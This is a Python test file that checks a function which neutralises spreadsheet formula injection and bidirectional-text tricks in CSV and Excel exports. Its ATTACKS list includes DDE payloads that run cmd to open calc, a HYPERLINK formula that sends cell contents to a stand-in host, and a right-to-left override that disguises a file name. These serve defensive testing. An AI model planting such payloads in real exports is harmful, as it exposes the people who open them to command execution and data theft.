"""What somebody wrote into a record never runs as a formula where an export is opened."""

import csv
from io import BytesIO, StringIO

import openpyxl  # type: ignore[import-untyped]  # openpyxl publishes no types
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hamkar.formats.inert_cell import inert
from hamkar.text.bidi import strip_bidi

ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "-",
)
HARMLESS = ("", "heroin", "'quoted", "5 kg", "Ли-2", "رضا-ی", "Əliyev = Aliyev", "a=b", "(=)", "a\t=b")


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_be_a_formula_is_quoted(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("text", ["\u202e=1+1", "\u200f@x", "\u2066-1\u2069"])
def test_what_hides_behind_a_mark_of_direction_is_seen_and_quoted(text: str) -> None:
    assert inert(text) == "'" + strip_bidi(text)


def test_no_cell_reads_in_another_order_than_it_stands() -> None:
    assert inert("seizure\u202efdp.exe") == "seizurefdp.exe"
    assert inert("ماری\u200cجوانا") == "ماری\u200cجوانا"


@given(st.text())
def test_no_text_begins_as_a_formula_and_none_is_quoted_twice(text: str) -> None:
    cell = inert(text)
    assert not cell.strip().startswith(("=", "+", "-", "@"))
    assert cell.removeprefix("'") == strip_bidi(text).removeprefix("'")
    assert inert(cell) == cell


@pytest.mark.parametrize("text", ATTACKS)
def test_a_table_of_commas_reads_back_with_its_quote(text: str) -> None:
    file = StringIO(newline="")
    csv.writer(file).writerow([inert(text), "next"])
    assert next(csv.reader(StringIO(file.getvalue(), newline=""))) == ["'" + text, "next"]


@pytest.mark.parametrize("text", [text for text in ATTACKS if text.isprintable()])
def test_a_workbook_holds_it_as_words(text: str) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = inert(text)
    file = BytesIO()
    book.save(file)
    cell = openpyxl.load_workbook(BytesIO(file.getvalue())).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "'" + text)
